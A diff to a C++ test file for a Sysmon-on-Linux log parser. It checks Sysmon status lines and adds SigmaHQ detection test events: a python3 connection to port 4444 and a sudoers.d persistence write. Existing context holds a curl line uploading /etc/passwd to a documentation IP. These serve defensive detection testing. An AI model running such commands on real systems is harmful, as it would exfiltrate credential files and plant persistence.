@@ -150,6 +150,10 @@ TEST(ParseSysmonTest, MalformedXmlStaysTheSyslogRecordWithANote) {
   for (int i = 0; i < 300; ++i) many += "<Data Name=\"D" + std::to_string(i) + "\">v</Data>";
   many += "</EventData></Event>";
   EXPECT_EQ(Str(Syslog(head + many), "event.dataset"), "system.syslog");
+  // sysmon's own status lines are no event: plain syslog, no note.
+  const Record status = Syslog(head + "Sysmon v1.3.0 - System activity monitor");
+  EXPECT_EQ(Str(status, "event.dataset"), "system.syslog");
+  EXPECT_EQ(Str(status, "seccloud.soc.parse_note"), "<absent>");
   // Another program's XML is not read as Sysmon's.
   EXPECT_EQ(Str(Syslog("<14>Nov 26 03:50:05 web01 myapp: " + xml), "winlog.event_id"), "<absent>");
 }
@@ -191,6 +195,35 @@ TEST(ParseSysmonTest, SigmaHqLinuxCategoryRulesFireOnTheirEvents) {
       {"00b90cc1-17ec-402c-96ad-3a8117d7a582",  // Suspicious Curl File Upload
        SysmonLine(1, ProcessCreate("/usr/bin/curl",
                                    "curl -F &quot;f=@/etc/passwd&quot; https://203.0.113.9/u"))},
+      {"dbfc7c98-04ab-4ab7-aa94-c74d22aa7376",  // Potentially Suspicious Malware Callback
+                                                // Communication
+       SysmonLine(3, {{"RuleName", "-"},
+                      {"UtcTime", "2025-11-26 03:50:05.200"},
+                      {"ProcessGuid", "{4f1a5b3c-9f2d-6745-a8c1-7e1f2d000000}"},
+                      {"ProcessId", "24817"},
+                      {"Image", "/usr/bin/python3.11"},
+                      {"User", "www-data"},
+                      {"Protocol", "tcp"},
+                      {"Initiated", "true"},
+                      {"SourceIsIpv6", "false"},
+                      {"SourceIp", "192.0.2.10"},
+                      {"SourceHostname", "-"},
+                      {"SourcePort", "50212"},
+                      {"SourcePortName", "-"},
+                      {"DestinationIsIpv6", "false"},
+                      {"DestinationIp", "203.0.113.5"},
+                      {"DestinationHostname", "-"},
+                      {"DestinationPort", "4444"},
+                      {"DestinationPortName", "-"}})},
+      {"ddb26b76-4447-4807-871f-1b035b2bfa5d",  // Persistence Via Sudoers.d Files
+       SysmonLine(11, {{"RuleName", "-"},
+                       {"UtcTime", "2025-11-26 03:50:05.300"},
+                       {"ProcessGuid", "{4f1a5b3c-9f2d-6745-a8c1-7e1f2d000000}"},
+                       {"ProcessId", "24830"},
+                       {"Image", "/usr/bin/tee"},
+                       {"TargetFilename", "/etc/sudoers.d/90-www"},
+                       {"CreationUtcTime", "2025-11-26 03:50:05.300"},
+                       {"User", "root"}})},
   };
   for (const auto& [id, line] : cases) {
     SCOPED_TRACE(line);
